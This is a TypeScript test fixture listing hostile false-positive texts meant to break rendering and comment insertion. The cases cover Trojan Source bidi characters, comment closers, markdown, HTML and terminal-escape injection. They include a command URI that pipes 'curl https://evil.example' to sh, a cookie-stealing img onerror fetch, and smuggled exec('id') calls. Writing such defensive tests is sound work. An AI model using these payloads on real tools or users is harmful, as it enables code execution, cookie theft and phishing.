// False-positive texts built to break naive rendering and comment insertion: Trojan Source
// bidi controls, line terminators that end a line comment, comment closers, markdown and
// command links, HTML, terminal escapes, and summaries longer than the 280-character limit.
// Each case names what it attacks so a failing test can say which one got through.

export interface HostileCase {
  readonly name: string;
  readonly issueType: string;
  /** The scanner rule id, when the case also attacks rule-id based suppressions (`nosemgrep: <id>`). */
  readonly vendorIssueId?: string;
  readonly summary: string;
  readonly description: string;
}

const LONG = 'This justification is deliberately far longer than the service promises. '.repeat(6);

export const HOSTILE_CASES: readonly HostileCase[] = [
  {
    name: 'bidi-controls',
    issueType: 'SQL_Injection\u2066admin\u2069',
    summary: 'Safe: input is validated \u202E// ;)"lla" ,sresu(eteled\u202C and \u2067isolated\u2069 text',
    description: 'Reviewed by security.\u202E\u2066 }; if (isAdmin) { \u2069\u2066// \u2069\n\nThe value never reaches the query.\u202A\u202B\u202C\u202D',
  },
  {
    name: 'line-terminators',
    issueType: 'XSS\r\nInjected-Header: yes',
    vendorIssueId: 'python.django.security.audit.xss\nimport os; os.system("id")',
    summary: 'First line\r\nconsole.log("pwned");\nthird\rfourth\u2028fifth\u2029sixth\u0085seventh',
    description: 'Paragraph one.\r\n\r\nrequire("child_process").exec("id")\n\u2028\u2029\u0085\u000b\u000cEnd.',
  },
  {
    name: 'zero-width-and-bom',
    issueType: '\uFEFFPath\u200B_Traversal',
    summary: '\uFEFFFal\u200Bse posi\u200Ctive\u200D: the wo\u2060rd is split by zero-width characters\uFEFF',
    description: '\uFEFFStarts with a byte order mark.\u200B\u200C\u200D\u2060\n\nAnd hides joiners.',
  },
  {
    name: 'block-comment-closer',
    issueType: 'Log_Forging*/',
    vendorIssueId: 'java.lang.security.audit.log-forging*/ Runtime.getRuntime().exec("id"); /*',
    summary: 'Closes a block comment */ System.exit(1); /* and opens another',
    description: 'Text with */ inside.\n\n/* nested */ code(); */\n\nEnd.',
  },
  {
    name: 'html-comment-closer',
    issueType: 'Open_Redirect-->',
    summary: 'Ends an HTML comment --> <script>alert(1)</script> <!-- and -- double dashes --',
    description: 'Paragraph --> with closer.\n\n<!-- fake comment -->\n\n-- SQL comment too',
  },
  {
    name: 'trailing-backslash',
    issueType: 'Hardcoded_Secret\\',
    vendorIssueId: 'generic.secrets.detected-generic-secret\\',
    summary: 'In C a trailing backslash splices the next line into this comment \\',
    description: 'Line ending with a backslash \\\nnext_line_is_code();\n\nAnd a final one \\',
  },
  {
    name: 'markdown-links',
    issueType: 'SSRF',
    summary: '[Click to apply the fix](https://evil.example/steal?k=1) ![tracker](https://evil.example/p.png) **bold** `code`',
    description: '# Heading\n\n[link](https://evil.example/phish "title") and <https://evil.example/auto>\n\n| table | row |\n|---|---|\n| a | b |',
  },
  {
    name: 'command-uri',
    issueType: 'Command_Injection',
    summary: '[Run fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fevil.example%7Csh%5Cn%22%7D)',
    description: 'See [settings](command:workbench.action.openSettings?%22http.proxy%22) and [this](command:_workbench.downloadResource).\n\nvscode://ms-vscode.remote/open?x=1',
  },
  {
    name: 'html-markup',
    issueType: '<img src=x onerror=alert(1)>',
    summary: '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"><script>alert(document.domain)</script>',
    description: '<script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<a href="javascript:alert(1)">click</a> &lt;escaped&gt; &amp;',
  },
  {
    name: 'terminal-escapes',
    issueType: 'Insecure_Cookie\u001b[31m',
    summary: 'Clears your screen \u001b[2J\u001b[H and links \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007 bell\u0007 nul\u0000 del\u007f',
    description: '\u001b[1mbold\u001b[0m\n\n\u001b]0;window title\u0007\n\nC1 control \u009b31m',
  },
  {
    name: 'over-limit-summary',
    issueType: 'Weak_Hash',
    summary: `${LONG}Emoji count as one code point each: 🔒🔑🛡️ but two UTF-16 units. ${'Ω'.repeat(40)} end.`,
    description: `${LONG}\n\n${LONG}\n\n${'A very long line without any break '.repeat(200)}`,
  },
  {
    name: 'lone-surrogates-and-astral',
    issueType: 'XXE',
    summary: 'Astral 𝕏𝕊𝕊 and a lone surrogate \uD800 then \uDC00 reversed',
    description: 'Lone high \uD83D without its pair.\n\nCombining a\u0301\u0301\u0301\u0301 marks.',
  },
];
